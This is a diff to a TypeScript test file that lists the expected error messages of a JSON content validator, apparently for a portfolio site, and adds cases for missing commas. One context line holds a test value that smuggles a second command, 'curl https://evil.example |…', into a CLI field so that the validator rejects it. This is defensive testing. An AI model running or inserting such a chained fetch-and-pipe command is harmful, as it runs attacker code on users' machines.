@@ -90,6 +90,12 @@ const FOLDER_CASES: Record<string, string[]> = {
   "cli-shell-syntax": [
     "content/profile.json → developerResources.cli: 'npx ada-cli; curl https://evil.example |…': expected a plain command such as npx @me/cli: letters, digits, spaces and @ . _ / : = + , ~ -, no quotes or shell syntax",
   ],
+  // At the end of the value's line, where the comma goes, not at the next key the parser stopped on;
+  // within one line the parser's own position is already right.
+  "missing-comma": [
+    "content/skills.json:3:36: invalid JSON: a comma is missing before this value (JSON separates items with commas: add one)",
+    "content/projects/alpha.json:4:20: invalid JSON: a comma is missing after this value (JSON separates items with commas: add one at the end of the line)",
+  ],
   "comments-in-json": ["content/skills.json:1:1: invalid JSON: JSON has no comments, and '//' starts one (remove the comment)"],
   "control-characters": [
     "content/profile.json → name: contains the control character U+001B, which terminals and files would act on (remove it)",
@@ -121,7 +127,7 @@ const FOLDER_CASES: Record<string, string[]> = {
   ],
   "file-name-not-slug": ["content/projects/beta.json → slug: 'gamma' does not match the file name (rename the file to gamma.json or set slug to 'beta')"],
   "infinite-order": ["content/projects/beta.json → order: expected a number, got Infinity, a number too large for JSON"],
-  "invalid-json": ["content/projects/beta.json:4:3: invalid JSON: Expected ',' or '}' after property value"],
+  "invalid-json": ["content/projects/beta.json:3:18: invalid JSON: a comma is missing after this value (JSON separates items with commas: add one at the end of the line)"],
   "invalid-json-literal": ["content/skills.json:1:33: invalid JSON: Unexpected token ','"],
   "lone-surrogate": [`content/projects/beta.json → title: ${LONE}`, `content/projects/beta.json → proofPoints[1]: ${LONE}`],
   "key-projects-wrong-shape": ["content/profile.json → roles: expected array, got string \"Developer\"", "content/profile.json → keyProjects: expected array, got an object"],
